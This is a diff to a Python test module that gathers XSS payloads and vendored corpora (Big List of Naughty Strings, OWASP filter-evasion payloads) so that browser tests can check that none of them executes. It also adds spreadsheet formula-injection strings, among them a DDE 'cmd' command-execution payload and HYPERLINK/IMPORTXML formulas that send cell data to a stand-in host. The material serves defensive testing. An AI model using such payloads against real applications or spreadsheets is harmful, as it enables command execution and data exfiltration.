@@ -1,5 +1,11 @@
 """Classic XSS payloads. Each one, if it ever ran, would set `window.__xss` or open an
-alert dialog; the browser tests assert that neither happens wherever the payload is shown."""
+alert dialog; the browser tests assert that neither happens wherever the payload is shown.
+
+The outside corpora (Big List of Naughty Strings, OWASP XSS filter-evasion payloads) are
+vendored under tests/fixtures/ with their licences and loaded below."""
+
+import re
+from pathlib import Path
 
 PAYLOADS = [
     "<script>window.__xss=1</script>",
@@ -27,3 +33,47 @@ PAYLOADS = [
     "{{ request.user }} {% load static %}<script>window.__xss=1</script>",
     '{{ "<script>window.__xss=1</script>"|safe }}',
 ]
+
+
+# The outside corpora vendored under tests/fixtures/ with their licences ------------------
+
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
+_ESCAPES = re.compile(r"\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\b")
+
+
+def _decode(line):
+    """Decode the `\\xNN`, `\\uNNNN` and `\\b` escapes the corpora files are written with."""
+    return _ESCAPES.sub(
+        lambda m: "\b" if m.group(0) == "\\b" else chr(int(m.group(0)[2:], 16)), line
+    )
+
+
+def load_corpus(relative_path):
+    """One string per non-empty, non-comment line of a vendored corpus file."""
+    text = (FIXTURES / relative_path).read_text(encoding="utf-8")
+    return [_decode(line) for line in text.split("\n") if line and not line.startswith("#")]
+
+
+# Big List of Naughty Strings (Max Woolf, MIT): tests/fixtures/naughty_strings/
+NAUGHTY_STRINGS = load_corpus("naughty_strings/blns.txt")
+# OWASP XSS Filter Evasion Cheat Sheet (OWASP Foundation, CC BY-SA 4.0):
+# tests/fixtures/owasp_xss/
+OWASP_XSS = load_corpus("owasp_xss/payloads.txt")
+# Formula injection (CSV/XLSX "DDE" payloads), written for the portal.
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
+    "=cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\x1b=1+1",
+    '=IMPORTXML(CONCAT("http://exemple.invalid/?v=",A1),"//a")',
+]
+
+
+def every_payload():
+    """Every payload of the portal's own list and of the vendored corpora, once each."""
+    return list(dict.fromkeys([*PAYLOADS, *OWASP_XSS, *NAUGHTY_STRINGS, *FORMULAS]))
